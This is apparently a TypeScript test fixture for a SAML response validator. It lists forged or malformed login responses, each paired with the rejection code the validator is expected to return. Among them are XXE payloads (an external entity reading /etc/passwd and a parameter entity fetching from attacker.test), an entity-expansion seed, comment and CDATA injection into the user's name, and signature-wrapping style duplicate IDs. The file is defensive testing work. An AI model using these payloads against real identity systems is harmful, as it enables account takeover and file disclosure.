/** Messages whose form, envelope or status is wrong. */
import type { ResponseRefusal } from '../refusals'
import * as forger from './forger'
import { assertionXml, moment, posted, responseXml, rightParts, sign } from './forger'
import { evilAssertion, evilResponse, type Forgery, idOf, inResponse, own, provider, tampered, victim } from './forgery'

const doctype = (inside: string) => (xml: string) => `<!DOCTYPE r [${inside}]>${xml}`

export const documents: Forgery[] = [
  { name: 'nothing at all', code: 'not_base64', make: () => '' },
  { name: 'something that is no base64', code: 'not_base64', make: () => 'PHNhbWw*' },
  { name: 'base64 behind something else', code: 'not_base64', make: () => `*${'PHNhbWw+'.slice(1)}` },
  { name: 'base64 of a cut length', code: 'not_base64', make: () => 'PHNhbWw' },
  { name: 'bytes that are no XML', code: 'not_xml', make: () => posted('not a document') },
  { name: 'bytes that are no UTF-8', code: 'not_xml', make: () => posted(Uint8Array.of(0x3c, 0xff, 0xfe, 0x3e)) },
  { name: 'more than is read', code: 'too_large', make: () => posted(`<a>${'x'.repeat(300_000)}</a>`) },
  { name: 'a hundred thousand elements', code: 'too_large', make: () => posted(`<a>${'<b/>'.repeat(50_000)}</a>`) },
  { name: 'elements in elements', code: 'too_large', make: () => posted('<a>'.repeat(90) + '</a>'.repeat(90)) },
  tampered('a DOCTYPE', 'doctype', (xml) => `<!DOCTYPE samlp:Response>${xml}`),
  tampered('a DOCTYPE in small letters', 'doctype', (xml) => `<!doctype r>${xml}`),
  tampered('an entity for the name', 'doctype', (xml) =>
    doctype(`<!ENTITY v "${victim}">`)(xml.replace('zoe@', '&v;')),
  ),
  tampered('an external entity', 'doctype', doctype('<!ENTITY x SYSTEM "file:///etc/passwd">')),
  tampered('a parameter entity', 'doctype', doctype('<!ENTITY % x SYSTEM "http://attacker.test/x"> %x;')),
  tampered('entities that grow', 'doctype', doctype('<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">')),
  tampered('a default attribute by DTD', 'doctype', doctype('<!ATTLIST saml:Assertion ID CDATA "x">')),
  tampered('an entity that nobody declared', 'not_xml', (xml) => xml.replace('zoe@acme.test', '&v;')),
  tampered('a comment inside the name', 'not_plain', (xml) => xml.replace('zoe@acme', 'zoe@<!---->acme')),
  tampered('a comment before the domain', 'not_plain', (xml) =>
    xml.replace('@acme.test<', '@acme.test<!-- x -->.evil<'),
  ),
  tampered('a comment in the digest', 'not_plain', (xml) => xml.replace('<DigestValue>', '<DigestValue><!-- AAAA -->')),
  tampered('a comment in an attribute value', 'not_plain', (xml) =>
    xml.replace('<saml:AttributeValue>', '<saml:AttributeValue><!-- -->'),
  ),
  tampered('CDATA inside the name', 'not_plain', (xml) => xml.replace('zoe@acme.test', '<![CDATA[zoe@]]>acme.test')),
  tampered('CDATA in an attribute value', 'not_plain', (xml) => xml.replace('Zoé Martin', '<![CDATA[Zoé]]> Martin')),
  tampered('a processing instruction inside the name', 'not_plain', (xml) =>
    xml.replace('zoe@acme', 'zoe@<?x y?>acme'),
  ),
  tampered('a processing instruction before the root', 'not_plain', (xml) => `<?xml-stylesheet href="x"?>${xml}`),
  tampered('a second XML declaration', 'not_plain', (xml) => `<?xml version="1.0"?><?xml version="1.0"?>${xml}`),
  tampered('an encoding that is not UTF-8', 'not_xml', (xml) => `<?xml version="1.0" encoding="UTF-7"?>${xml}`),
  tampered('a control character', 'not_xml', (xml) => xml.replace('zoe@', 'zoe\u0001@')),
  ...['&#0;', '&#x1f;', '&#xD800;', '&#65535;', '&#x110000;', '&#9999999;'].map((reference) =>
    tampered(`the reference ${reference.slice(1, -1)} to a character that is none`, 'not_xml', (xml) =>
      xml.replace('zoe@', `zoe${reference}@`),
    ),
  ),
  {
    name: 'a NUL by reference in the issuer, unsigned',
    code: 'not_xml',
    make: ({ setting }) => posted(responseXml(rightParts(setting)).replace(setting.issuer, `${setting.issuer}&#0;`)),
  },
  tampered('a tag that is not closed', 'not_xml', (xml) => xml.replace('</saml:NameID>', '')),
  tampered('an attribute twice', 'not_xml', (xml) => xml.replace('Version="2.0"', 'Version="2.0" Version="2.0"')),
  tampered('an evil root before', 'not_xml', (xml, w) => `${evilResponse(w)}${xml}`),
  tampered('an evil root behind', 'not_xml', (xml, w) => `${xml}${evilResponse(w)}`),
  tampered('text behind the root', 'not_xml', (xml) => `${xml}x`),
  tampered('an ID twice', 'id_twice', (xml, w) => inResponse(xml, evilAssertion(w, idOf(xml)))),
  tampered('an ID again under another name', 'id_twice', (xml) =>
    xml.replace('<samlp:Status>', `<samlp:Status Id="${idOf(xml)}">`),
  ),
  tampered('an ID again in a namespace', 'id_twice', (xml) =>
    xml.replace('<samlp:Status>', `<samlp:Status samlp:ID="${idOf(xml)}">`),
  ),
  tampered('a relative namespace', 'namespace_relative', (xml) =>
    xml.replace('<samlp:Status>', '<samlp:Status xmlns:x="1">'),
  ),
]

export const answers: Forgery[] = [
  tampered('a LogoutResponse', 'not_a_response', (xml) => xml.replaceAll('samlp:Response', 'samlp:LogoutResponse')),
  {
    name: 'an assertion without a response',
    code: 'not_a_response',
    make: ({ setting, idp }) => {
      const parts = rightParts(setting)
      return posted(sign(assertionXml(parts), parts.assertionId, idp.privateKey))
    },
  },
  tampered('a response of SAML 1.1', 'not_a_response', (xml) => xml.replace('SAML:2.0:protocol', 'SAML:1.0:protocol')),
  tampered('a response without a namespace', 'not_a_response', (xml) => xml.replaceAll('samlp:Response', 'Response')),
  tampered('a response of version 1.1', 'version_wrong', (xml) => xml.replace('Version="2.0"', 'Version="1.1"')),
  tampered('a response without a version', 'version_wrong', (xml) => xml.replace('Version="2.0" ', '')),
  provider('an assertion of version 1.1', 'version_wrong', ({ setting }) => ({
    assertionAttributes: `Version="1.1" IssueInstant="${moment(setting.now)}"`,
  })),
  status(
    'a status of failure, with an assertion',
    '<samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Responder"/>',
  ),
  status(
    'a refusal by the provider',
    '<samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Requester"><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:AuthnFailed"/></samlp:StatusCode><samlp:StatusMessage>no</samlp:StatusMessage>',
  ),
  status(
    'success only in the second place',
    '<samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Responder"><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:StatusCode>',
  ),
  status(
    'success in the first place and a failure inside',
    '<samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:AuthnFailed"/></samlp:StatusCode>',
  ),
  status(
    'success and a failure beside it',
    '<samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Responder"/>',
  ),
  status('success in other letters', '<samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:success"/>'),
  status('a status without a code', ''),
  provider('no status', 'idp_refused', () => ({ status: '' })),
  provider('two statuses', 'idp_refused', () => ({ status: forger.success + forger.success })),
  tampered('no assertion', 'assertion_missing', (xml) => xml.replace(/<saml:Assertion[\s\S]*<\/saml:Assertion>/, '')),
  provider('no issuer of the response', 'response_issuer_missing', () => ({ responseIssuer: '' })),
  provider('an empty issuer of the response', 'response_issuer_missing', () => ({ responseIssuer: '<saml:Issuer/>' })),
  provider('two issuers of the response', 'response_issuer_missing', ({ setting }) => ({
    responseIssuer: `<saml:Issuer>${setting.issuer}</saml:Issuer><saml:Issuer>https://evil.test</saml:Issuer>`,
  })),
  provider('another issuer of the response', 'response_issuer_wrong', () => ({
    responseIssuer: '<saml:Issuer>https://evil.test</saml:Issuer>',
  })),
  provider('no issuer of the assertion', 'assertion_issuer_missing', () => ({ assertionIssuer: '' })),
  provider('an empty issuer of the assertion', 'assertion_issuer_missing', () => ({
    assertionIssuer: '<saml:Issuer/>',
  })),
  provider('two issuers of the assertion', 'assertion_issuer_missing', ({ setting }) => ({
    assertionIssuer: `<saml:Issuer>${setting.issuer}</saml:Issuer><saml:Issuer>https://evil.test</saml:Issuer>`,
  })),
  provider('another issuer of the assertion', 'assertion_issuer_wrong', () => ({
    assertionIssuer: '<saml:Issuer>https://evil.test</saml:Issuer>',
  })),
  provider('an issuer in other letters', 'assertion_issuer_wrong', ({ setting }) => ({
    assertionIssuer: `<saml:Issuer>${setting.issuer.toUpperCase()}</saml:Issuer>`,
  })),
  envelope(
    'no destination',
    'destination_missing',
    ({ now, requestId }) => `IssueInstant="${moment(now)}" InResponseTo="${requestId}"`,
  ),
  envelope('an empty destination', 'destination_missing', (s) => responseAttributes(s, { destination: '' })),
  envelope('another destination', 'destination_wrong', (s) =>
    responseAttributes(s, { destination: 'https://evil.test/acs' }),
  ),
  envelope("another organization's destination", 'destination_wrong', (s) =>
    responseAttributes(s, { destination: s.acsUrl.replace(own, '/saml/globex/') }),
  ),
  envelope('a destination with a slash more', 'destination_wrong', (s) =>
    responseAttributes(s, { destination: `${s.acsUrl}/` }),
  ),
  envelope('a destination with a query', 'destination_wrong', (s) =>
    responseAttributes(s, { destination: `${s.acsUrl}?x=1` }),
  ),
  envelope('a destination of another port', 'destination_wrong', (s) =>
    responseAttributes(s, { destination: s.acsUrl.replace(/(?<=:\/\/[^/]+)\//, ':8443/') }),
  ),
  envelope('a destination in other letters', 'destination_wrong', (s) =>
    responseAttributes(s, { destination: s.acsUrl.toUpperCase() }),
  ),
  envelope('a destination without TLS', 'destination_wrong', (s) =>
    responseAttributes(s, { destination: s.acsUrl.replace(/^https?/, 'ftp') }),
  ),
  envelope('an empty InResponseTo', 'request_wrong', (s) => responseAttributes(s, { request: '' })),
  envelope('no InResponseTo', 'request_wrong', (s) => `IssueInstant="${moment(s.now)}" Destination="${s.acsUrl}"`),
  envelope('another InResponseTo', 'request_wrong', (s) => responseAttributes(s, { request: '_other' })),
]

function status(name: string, inside: string): Forgery {
  return provider(name, 'idp_refused', () => ({ status: `<samlp:Status>${inside}</samlp:Status>` }))
}

function responseAttributes(setting: forger.Setting, { destination = setting.acsUrl, request = setting.requestId }) {
  return `IssueInstant="${moment(setting.now)}" Destination="${destination}" InResponseTo="${request}"`
}

function envelope(name: string, code: ResponseRefusal, write: (setting: forger.Setting) => string): Forgery {
  return provider(name, code, ({ setting }) => ({ responseAttributes: `Version="2.0" ${write(setting)}` }))
}
